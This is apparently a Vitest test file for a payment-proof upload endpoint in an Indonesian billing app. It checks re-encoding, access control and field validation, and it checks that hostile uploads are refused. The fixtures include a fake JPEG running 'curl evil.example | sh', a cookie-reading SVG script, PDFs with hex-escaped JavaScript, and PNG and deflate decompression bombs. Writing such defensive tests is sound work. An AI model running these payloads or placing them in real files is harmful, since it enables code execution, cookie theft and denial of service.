import { crc32, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import type { TPaymentConfirmationList, TPaymentDetail, TTransactionDetail } from '@undangin/shared';
import { createTestContext, type TTestContext } from './helpers/app';
import {
  buy,
  confirm,
  createBankAccount,
  createInvitation,
  createUser,
  loginAdmin,
  sendConfirmation,
  todayInJakarta,
  type TTestUser,
} from './helpers/billing';

/** A PNG whose header claims 50,000 × 50,000 pixels in a few hundred bytes: a decompression bomb. */
function pixelFloodPng(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const MINIMAL_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
    'trailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1',
);

/** A one-page receipt as pdf-lib writes it: object streams, compressed. */
async function receiptPdf(change?: (doc: PDFDocument) => void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 200]).drawText('Transfer berhasil Rp 49.123', { x: 20, y: 100, size: 12 });
  change?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** A hand-written PDF whose catalog carries `extra`, with a correct cross-reference table. */
function handPdf(extra: string, trailer = ''): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${extra}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>',
  ];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj${object}endobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

describe('payment confirmations', () => {
  let ctx: TTestContext;
  let admin: TTestUser;
  let user: TTestUser;
  let t: TTransactionDetail;

  beforeAll(async () => {
    ctx = await createTestContext();
  });
  afterAll(() => ctx.close());
  beforeEach(async () => {
    await ctx.reset();
    admin = await loginAdmin(ctx);
    user = await createUser(ctx);
    await createBankAccount(ctx, admin);
    t = await buy(ctx, user, await createInvitation(ctx, user.id), 'basic');
  });

  it('takes the transfer details and a photo, stored re-encoded and served only to the owner and administrators', async () => {
    const res = await sendConfirmation(ctx, user, t.id, {
      fields: {
        bankName: 'Mandiri',
        accountHolder: 'Sekar Ayu',
        amount: `Rp ${t.amount.toLocaleString('id-ID')}`,
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    const payment = res.json<TPaymentDetail>();
    expect(payment).toMatchObject({
      bankName: 'Mandiri',
      accountHolder: 'Sekar Ayu',
      amount: t.amount,
      transferDate: todayInJakarta(ctx),
      status: 'menunggu',
      invoiceNumber: t.invoiceNumber,
      proof: { mime: 'image/jpeg', url: `/api/payments/${payment.id}/proof` },
      transaction: { id: t.id, status: 'menunggu_verifikasi' },
    });

    const own = await ctx.request({ method: 'GET', url: payment.proof.url, token: user.token });
    expect(own.statusCode).toBe(200);
    expect(own.headers['content-type']).toBe('image/jpeg');
    expect(own.headers['content-disposition']).toBe(
      `attachment; filename="bukti-transfer-${t.invoiceNumber.replace(/\//g, '-')}.jpg"`,
    );
    expect(own.headers['cache-control']).toBe('private, no-store');
    expect(own.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    expect((await sharp(own.rawPayload).metadata()).width).toBe(60);

    const other = await createUser(ctx, 'Orang Lain');
    expect(
      (await ctx.request({ method: 'GET', url: payment.proof.url, token: other.token })).statusCode,
    ).toBe(404);
    expect(
      (await ctx.request({ method: 'GET', url: `/api/payments/${payment.id}`, token: other.token }))
        .statusCode,
    ).toBe(404);
    expect((await ctx.request({ method: 'GET', url: payment.proof.url })).statusCode).toBe(401);
    expect(
      (await ctx.request({ method: 'GET', url: payment.proof.url, token: admin.token })).statusCode,
    ).toBe(200);
    const detail = await ctx.request({
      method: 'GET',
      url: `/api/payments/${payment.id}`,
      token: admin.token,
    });
    expect(detail.json<TPaymentDetail>().transaction.history.at(-1)?.toStatus).toBe('menunggu_verifikasi');
  });

  it('accepts a plain PDF receipt as it is', async () => {
    const res = await sendConfirmation(ctx, user, t.id, {
      file: { filename: 'bukti.pdf', contentType: 'application/pdf', body: MINIMAL_PDF },
    });
    expect(res.statusCode, res.body).toBe(201);
    const proof = await ctx.request({
      method: 'GET',
      url: res.json<TPaymentDetail>().proof.url,
      token: user.token,
    });
    expect(proof.headers['content-type']).toBe('application/pdf');
    expect(proof.headers['content-security-policy']).toContain('sandbox');
    expect(proof.rawPayload.equals(MINIMAL_PDF)).toBe(true);
  });

  it('takes a phone photo over 5 MB, as the gallery does up to 10 MB, and stores it shrunk', async () => {
    // A 7.7-megapixel photo full of detail, as a phone's camera writes it.
    const photo = await sharp({
      create: {
        width: 3200,
        height: 2400,
        channels: 3,
        background: '#888888',
        noise: { type: 'gaussian', mean: 128, sigma: 60 },
      },
    })
      .jpeg({ quality: 95 })
      .toBuffer();
    expect(photo.length).toBeGreaterThan(5 * 1024 * 1024);
    expect(photo.length).toBeLessThan(10 * 1024 * 1024);
    const res = await sendConfirmation(ctx, user, t.id, {
      file: { filename: 'IMG_20261125.jpg', contentType: 'image/jpeg', body: photo },
    });
    expect(res.statusCode, res.body).toBe(201);
    const stored = await ctx.request({
      method: 'GET',
      url: res.json<TPaymentDetail>().proof.url,
      token: user.token,
    });
    expect((await sharp(stored.rawPayload).metadata()).width).toBe(2400);
  });

  describe('refuses upload attacks and keeps the transaction waiting for payment', () => {
    const attacks: [
      string,
      () => Promise<{ filename: string; contentType: string; body: Buffer }>,
      number,
      RegExp,
    ][] = [
      [
        'a script renamed .jpg',
        async () => ({
          filename: 'bukti.jpg',
          contentType: 'image/jpeg',
          body: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
        }),
        422,
        /JPEG, PNG atau WebP/,
      ],
      [
        'a 20 MB file',
        async () => ({
          filename: 'bukti.jpg',
          contentType: 'image/jpeg',
          body: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(20 * 1024 * 1024, 1)]),
        }),
        413,
        /maksimal 10 MB/,
      ],
      [
        'a pixel-flood PNG',
        async () => ({ filename: 'bukti.png', contentType: 'image/png', body: pixelFloodPng() }),
        422,
        /terlalu besar/,
      ],
      [
        'an SVG with a script',
        async () => ({
          filename: 'bukti.svg',
          contentType: 'image/svg+xml',
          body: Buffer.from(
            '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
          ),
        }),
        422,
        /JPEG, PNG atau WebP/,
      ],
      [
        'a PDF with JavaScript',
        async () => ({
          filename: 'bukti.pdf',
          contentType: 'application/pdf',
          body: Buffer.from(
            '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
            'latin1',
          ),
        }),
        422,
        /skrip/,
      ],
    ];

    for (const [name, file, status, message] of attacks) {
      it(name, async () => {
        const res = await sendConfirmation(ctx, user, t.id, { file: await file() });
        expect(res.statusCode, res.body).toBe(status);
        expect(res.json().errors.proof[0]).toMatch(message);
        const after = await ctx.request({
          method: 'GET',
          url: `/api/transactions/${t.id}`,
          token: user.token,
        });
        expect(after.json<TTransactionDetail>()).toMatchObject({
          status: 'menunggu_pembayaran',
          confirmations: [],
        });
      });
    }
  });

  it('answers missing and wrong fields one by one in Indonesian', async () => {
    const res = await sendConfirmation(ctx, user, t.id, {
      fields: { bankName: '', accountHolder: '', amount: 'seratus', transferDate: '2026-13-45' },
      file: null,
    });
    expect(res.statusCode).toBe(422);
    const errors = res.json<{ errors: Record<string, string[]> }>().errors;
    expect(Object.keys(errors).sort()).toEqual([
      'accountHolder',
      'amount',
      'bankName',
      'proof',
      'transferDate',
    ]);
    expect(errors.proof).toEqual(['Bukti transfer wajib diunggah.']);

    const tomorrow = new Date(ctx.clock.now().getTime() + 2 * 24 * 60 * 60 * 1000).toISOString().slice(0, 10);
    const future = await sendConfirmation(ctx, user, t.id, { fields: { transferDate: tomorrow } });
    expect(future.statusCode).toBe(422);
    expect(future.json().errors.transferDate).toEqual(['Tanggal transfer tidak boleh setelah hari ini']);

    const json = await ctx.request({
      method: 'POST',
      url: `/api/transactions/${t.id}/confirmations`,
      token: user.token,
      payload: { bankName: 'BCA' },
    });
    expect(json.statusCode).toBe(415);
  });

  it("answers 404 for another user's transaction and sends nothing for it", async () => {
    const other = await createUser(ctx, 'Orang Lain');
    const res = await sendConfirmation(ctx, other, t.id);
    expect(res.statusCode).toBe(404);
  });

  it('lists the caller’s confirmations with their outcomes (Riwayat Pembayaran)', async () => {
    const first = await confirm(ctx, user, t);
    await ctx.request({
      method: 'POST',
      url: `/api/admin/transactions/${t.id}/reject`,
      token: admin.token,
      payload: { reason: 'Nama pengirim tidak sesuai' },
    });
    const second = await confirm(ctx, user, t);
    const other = await createUser(ctx, 'Orang Lain');

    const mine = await ctx.request({ method: 'GET', url: '/api/payments', token: user.token });
    const list = mine.json<TPaymentConfirmationList>();
    expect(list.total).toBe(2);
    expect(list.data.map((p) => [p.id, p.status])).toEqual([
      [second.id, 'menunggu'],
      [first.id, 'ditolak'],
    ]);
    expect(list.data[1]!.rejectionReason).toBe('Nama pengirim tidak sesuai');
    const rejected = await ctx.request({
      method: 'GET',
      url: '/api/payments?status=ditolak',
      token: user.token,
    });
    expect(rejected.json<TPaymentConfirmationList>().data.map((p) => p.id)).toEqual([first.id]);
    const theirs = await ctx.request({ method: 'GET', url: '/api/payments', token: other.token });
    expect(theirs.json<TPaymentConfirmationList>().total).toBe(0);
  });

  describe('PDF proofs are parsed, not matched as bytes', () => {
    const pdf = (body: Buffer) => ({ filename: 'bukti.pdf', contentType: 'application/pdf', body });

    it('takes a clean one-page receipt with compressed object streams', async () => {
      const body = await receiptPdf();
      const res = await sendConfirmation(ctx, user, t.id, { file: pdf(body) });
      expect(res.statusCode, res.body).toBe(201);
      const proof = await ctx.request({
        method: 'GET',
        url: res.json<TPaymentDetail>().proof.url,
        token: user.token,
      });
      expect(proof.rawPayload.equals(body)).toBe(true);
    });

    const refused: [string, () => Promise<Buffer> | Buffer, RegExp][] = [
      [
        'JavaScript behind escaped names (/J#61vaScript)',
        () => handPdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'),
        /skrip/,
      ],
      [
        'JavaScript behind lower-case hex escapes (/#4a#61vaScript)',
        () => handPdf('/Names<</#4a#61vaScript 4 0 R>>'),
        /skrip/,
      ],
      [
        'JavaScript inside a compressed object stream',
        () =>
          receiptPdf((doc) =>
            doc.catalog.set(
              PDFName.of('OpenAction'),
              doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
            ),
          ),
        /skrip/,
      ],
      [
        'an embedded file',
        () =>
          receiptPdf(
            (doc) => void doc.attach(Buffer.from('#!/bin/sh\n'), 'run.sh', { mimeType: 'text/plain' }),
          ),
        /lampiran/,
      ],
      [
        'a form (AcroForm)',
        () => receiptPdf((doc) => doc.getForm().createTextField('rekening').addToPage(doc.getPage(0))),
        /formulir/,
      ],
      [
        'a link that opens a web address (/URI)',
        () => handPdf('/OpenAction<</S/URI/URI(https://contoh.test)>>'),
        /tautan/,
      ],
      [
        'garbage behind a %PDF header',
        () => Buffer.from('%PDF-1.7\nbukan pdf sama sekali\n%%EOF\n', 'latin1'),
        /rusak/,
      ],
      [
        'an encrypted PDF',
        () => handPdf('', '/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>'),
        /kata sandi/,
      ],
      [
        'a deflate bomb in an object stream',
        () => {
          const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20));
          const head = Buffer.from(
            `%PDF-1.7\n4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>>stream\n`,
            'latin1',
          );
          return Buffer.concat([
            head,
            bomb,
            Buffer.from('\nendstream endobj\n', 'latin1'),
            handPdf('').subarray(9),
          ]);
        },
        /terlalu besar/,
      ],
    ];

    for (const [name, make, message] of refused) {
      it(`refuses ${name} with 422 on the proof field, storing nothing`, async () => {
        const res = await sendConfirmation(ctx, user, t.id, { file: pdf(await make()) });
        expect(res.statusCode, res.body).toBe(422);
        expect(res.json().errors.proof[0]).toMatch(message);
        const after = await ctx.request({
          method: 'GET',
          url: `/api/transactions/${t.id}`,
          token: user.token,
        });
        expect(after.json<TTransactionDetail>()).toMatchObject({
          status: 'menunggu_pembayaran',
          confirmations: [],
        });
      });
    }
  });
});
